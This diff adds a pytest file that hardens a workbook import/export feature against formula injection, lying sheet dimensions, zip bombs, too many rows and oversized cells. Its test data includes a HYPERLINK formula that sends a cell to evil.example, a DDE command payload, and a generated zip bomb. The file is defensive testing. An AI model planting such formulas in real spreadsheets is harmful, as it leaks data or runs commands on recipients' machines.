@@ -1,0 +1,173 @@
+"""Hostile workbooks, both ways: names that are formulas are exported as text; a file that
+lies about its size (<dimension>), a zip bomb, too many rows, an endless cell are read whole or
+refused before they cost memory; a refusal lists the first problems and says how many more."""
+
+from __future__ import annotations
+
+import re
+import zipfile
+from io import BytesIO
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+from openpyxl import Workbook, load_workbook
+from sqlmodel import select
+
+from bot.cli import main
+from models.excel_format import MAX_CELL_CHARS, PROBLEMS_LISTED
+from models.standings import refresh_all
+from models.store import Store
+from models.tables import Cadre, Task
+from tests.excel.support import fill_template, problems, save, workbook
+from tests.excel.test_broken_files import TASK_HEADERS
+from tests.excel.test_round_trip import ROSTER
+from tests.support.snapshot import snapshot
+from tests.support.world import build_world
+from ui import excel_jobs, workbooks
+from ui.i18n import Translator
+
+ZH = Translator("zh_CN")
+FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"点我")', "=cmd|' /C calc'!A0",
+            "+1+2", "-3+4", "@SUM(A1:A9)")
+
+
+def _parts(content: bytes) -> dict[str, bytes]:
+    with zipfile.ZipFile(BytesIO(content)) as archive:
+        return {name: archive.read(name) for name in archive.namelist()}
+
+
+def _zipped(parts: dict[str, bytes]) -> bytes:
+    buffer = BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in parts.items():
+            archive.writestr(name, data)
+    return buffer.getvalue()
+
+
+def test_names_and_titles_that_look_like_formulas_are_exported_as_text(store: Store) -> None:
+    world = build_world(store)
+    with store.transaction() as ctx:
+        for cadre_id, name in ((world.alice.id, FORMULAS[0]), (world.bob.id, FORMULAS[2])):
+            cadre = ctx.session.get(Cadre, cadre_id)
+            assert cadre is not None
+            cadre.name = name
+        for task_id, title in ((world.alice_plain.id, FORMULAS[1]), (world.alice_key.id,
+                                                                     FORMULAS[3]),
+                               (world.alice_monthly.id, FORMULAS[4])):
+            task = ctx.session.get(Task, task_id)
+            assert task is not None
+            task.title = title
+        refresh_all(ctx, world.year)
+    exports = {"roster": excel_jobs.export_roster(store, ZH),
+               "tasks": excel_jobs.export_tasks(store, world.year, ZH),
+               "results": excel_jobs.export_results(store, world.year, ZH)}
+    for kind, content in exports.items():
+        sheets = {n: d for n, d in _parts(content).items() if n.startswith("xl/worksheets/")}
+        assert not any(b"<f>" in data or b"<f " in data for data in sheets.values()), kind
+        found = set()
+        for sheet in load_workbook(BytesIO(content)).worksheets:
+            for row in sheet.iter_rows(min_row=2):
+                for cell in row:
+                    if cell.value in FORMULAS:
+                        assert (cell.data_type, cell.quotePrefix) == ("s", True), kind
+                        found.add(cell.value)
+        assert found, kind
+    # What was exported imports back as the same text.
+    again = excel_jobs.import_file(store, exports["roster"])
+    assert not again.changed
+
+
+def _declaring(content: bytes, ref: str) -> bytes:
+    """The same workbook, every sheet's <dimension> declaring `ref` (as some tools write it)."""
+    parts = _parts(content)
+    for name, data in parts.items():
+        if name.startswith("xl/worksheets/sheet"):
+            parts[name] = re.sub(rb'<dimension ref="[^"]*"\s*/>', f'<dimension ref="{ref}"/>'
+                                 .encode(), data)
+    return _zipped(parts)
+
+
+def test_a_roster_declaring_fewer_rows_than_it_holds_is_read_whole(store: Store) -> None:
+    cadres = [*ROSTER["干部"], *((f"P1{i:02d}", f"干部{i}", "xz", None, None, None, None)
+                                for i in range(4))]
+    content = fill_template(store, "roster", {**ROSTER, "干部": cadres})
+    lying = _declaring(content, "A1:B3")
+    assert b'<dimension ref="A1:B3"/>' in _parts(lying)["xl/worksheets/sheet2.xml"]
+    excel_jobs.import_file(store, lying)
+    with store.session() as session:
+        stored = session.exec(select(Cadre)).all()
+    assert len(stored) == 8
+    assert {c.code: c.locale for c in stored}["P002"] == "en"  # column G, past the declared B
+
+
+def test_a_zip_bomb_is_refused_from_its_directory_before_it_is_inflated(store: Store) -> None:
+    parts = _parts(workbook({"干部": [("干部编码",), ("A001",)]}))
+    cell = b"A" * (60 * 2**20)  # 60 MB of one letter: a few dozen KB zipped
+    parts["xl/worksheets/sheet1.xml"] = (
+        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+        b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>' + cell
+        + b"</t></is></c></row></sheetData></worksheet>")
+    bomb = _zipped(parts)
+    assert len(bomb) < 2**20
+    before = snapshot(store.engine)
+    assert problems(store, bomb, "zh_CN") == [
+        "文件有 1 处错误，未导入任何内容：",
+        "文件解压后 60.0 MB，超过上限 50.0 MB。请分成几个文件导入。"]
+    assert problems(store, b"PK" + b"\0" * (11 * 2**20)) == [
+        "The file has 1 problem(s); nothing was imported:",
+        "The file is 11.0 MB, over the 10.0 MB limit. Split it into several files."]
+    assert snapshot(store.engine) == before
+
+
+def test_too_many_rows_or_an_endless_cell_are_refused_while_reading(
+    store: Store, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    rows = 2_000  # as MAX_ROWS (50,000) would, only quicker to write
+    monkeypatch.setattr(workbooks, "MAX_ROWS", rows)
+    book = Workbook(write_only=True)
+    for name in ("履职事项", "协同单位"):  # counted over all sheets together
+        sheet = book.create_sheet(name)
+        sheet.append(TASK_HEADERS)
+        for number in range(rows // 2):
+            sheet.append(("2026", f"X{number}"))
+    assert problems(store, save(book)) == [
+        "The file has 1 problem(s); nothing was imported:",
+        f"The file has more than {rows} rows. Split it into several files."]
+    endless = workbook({"履职事项": [TASK_HEADERS, ("2026", "N1", "P001", None, "长" * 20_000)]})
+    assert problems(store, endless) == [
+        "The file has 1 problem(s); nothing was imported:",
+        f"Sheet “履职事项”, row 2, column “E”: 20000 characters in one cell, over the limit of "
+        f"{MAX_CELL_CHARS}"]
+
+
+def test_a_file_with_many_problems_lists_the_first_and_counts_the_rest(store: Store) -> None:
+    build_world(store)
+    rows = [("2026", f"X{i:03d}", "NOBODY", None, "事项", "基础履职", "综合基础类", 5,
+             "市政府工作报告") for i in range(500)]
+    lines = problems(store, workbook({"履职事项": [TASK_HEADERS, *rows]}))
+    assert len(lines) == 1 + PROBLEMS_LISTED + 1
+    assert lines[0] == "The file has 500 problem(s); nothing was imported:"
+    assert lines[-1] == ("…and 470 more problem(s) not listed. Fix the ones above, then import "
+                         "again.")
+
+
+@pytest.fixture
+def database(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
+    url = f"sqlite:///{tmp_path / 'kaohe.db'}"
+    monkeypatch.setenv("KAOHE_DATABASE__URL", url)
+    return url
+
+
+def test_the_command_line_prints_the_first_problems_only(database: str, tmp_path: Path) -> None:
+    runner = CliRunner()
+    assert runner.invoke(main, ["db", "upgrade"]).exit_code == 0
+    rows = [("2026", f"X{i:03d}", "NOBODY", None, "事项", "基础履职", "综合基础类", 5,
+             "市政府工作报告") for i in range(2000)]
+    path = tmp_path / "tasks.xlsx"
+    path.write_bytes(workbook({"履职事项": [TASK_HEADERS, *rows]}))
+    result = runner.invoke(main, ["--lang", "en", "import", "tasks", str(path)])
+    assert result.exit_code == 1
+    lines = result.output.strip().splitlines()
+    assert len(lines) <= PROBLEMS_LISTED + 3  # a progress line, the heading, the problems, more
+    assert lines[-1].startswith("…and ") and "more problem(s) not listed" in lines[-1]
